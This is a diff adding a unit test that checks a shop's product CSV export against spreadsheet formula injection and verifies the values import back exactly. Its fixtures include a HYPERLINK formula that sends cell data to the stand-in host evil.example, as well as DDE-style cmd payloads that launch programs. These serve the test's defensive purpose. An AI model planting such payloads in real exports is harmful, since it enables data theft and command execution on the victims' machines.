@@ -5,7 +5,7 @@ import { i18n } from 'shared-contracts/platform/i18n';
 import { ShopProviders } from 'shared-contracts/ui/ShopProviders';
 import './ListingPage.messages';
 import { ImportReportView, problemsOf } from './ImportReport';
-import { checkProductCsv, importProducts, parseCsv, productsToCsv } from './csv';
+import { checkProductCsv, importProducts, parseCsv, productsToCsv, restoreCell, toCsv } from './csv';
 
 const categories: Category[] = [
   { id: 'cat-home', slug: 'home-decor', name: 'Home decor', description: '', parentId: null, position: 1 },
@@ -146,6 +146,69 @@ describe('CSV rows judged by the shared product rules', () => {
           { key: 'length_cm', value: '180' },
         ],
       }),
+    );
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula, and imports it back exactly', () => {
+    const crafted = (n: number, title: string, description: string, tags: string[], value: string) =>
+      ({
+        id: `p${n}`,
+        slug: `crafted-${n}`,
+        title,
+        description,
+        categoryId: 'cat-home',
+        price: 10000 * n,
+        mrp: null,
+        gstRate: 12,
+        hsn: null,
+        stock: n,
+        images: [],
+        published: true,
+        sku: null,
+        tags,
+        attributes: [{ key: 'note', value }],
+      }) as never;
+    const products = [
+      crafted(1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', '=1+1', ["=cmd' /C calc'!A0", 'plain'], '=2+3'),
+      crafted(2, '+91 brass lamp', '-2+3+cmd|\' /C notepad\'!\'A1\'', ['+tag', '-tag'], '@SUM(1,1)'),
+      crafted(3, '@SUM(A1:A9)', '@mention; =x', ['@home'], '-1'),
+      crafted(4, "'=already quoted", "''", ["'+quoted"], "'"),
+      crafted(5, '-5', 'a;=HYPERLINK("x");b', ['tag;=1+1'], "'plain"),
+    ];
+    const csv = productsToCsv(products, categories);
+
+    // every cell as a spreadsheet reads it: none starts with a formula character, numbers aside
+    const cells = parseCsv(csv).flat();
+    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell));
+    expect(live).toEqual([]);
+    // the titles, descriptions and tags cells of products 1 to 3 would have run
+    const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);
+    const formulaLike = cells.map(restoreCell).filter(runs);
+    expect(formulaLike).toHaveLength(9);
+    // a cell with a ';' (the separator of spreadsheets in many locales) is quoted whole: never split into a cell '=...'
+    const withSemicolon = cells.filter((cell) => cell.includes(';'));
+    expect(withSemicolon.length).toBeGreaterThanOrEqual(3);
+    expect(withSemicolon.filter((cell) => !csv.includes(`"${cell.replace(/"/g, '""')}"`))).toEqual([]);
+
+    const check = checkProductCsv(csv, categories);
+    expect(check.bad).toEqual([]);
+    const imported = check.good.map(({ product }) => ({ title: product.title, description: product.description, tags: product.tags, attributes: product.attributes }));
+    expect(imported).toEqual(
+      products.map((product: { title: string; description: string; tags: string[]; attributes: unknown }) => ({
+        title: product.title,
+        description: product.description,
+        tags: product.tags,
+        attributes: product.attributes,
+      })),
+    );
+
+    // tab and carriage return start a cell only through toCsv's callers' raw text: neutralised, restored exactly
+    const raw = [['\tTAB', '\r=CR', '=', "'", "''", "'=", 'x=1', '-7', '-7.5', '-', '+', '@']];
+    const back = parseCsv(toCsv(raw)).map((row) => row.map(restoreCell));
+    expect(back).toEqual(raw);
+    expect(parseCsv(toCsv(raw)).flat().filter(runs)).toEqual([]);
+    console.log(
+      `CSV formula cells: ${cells.length + raw[0]!.length} cells checked (${formulaLike.length + raw[0]!.filter(runs).length} formula-like), ${live.length} live formulas; ${products.length} crafted products round-tripped exactly`,
     );
   });
 });
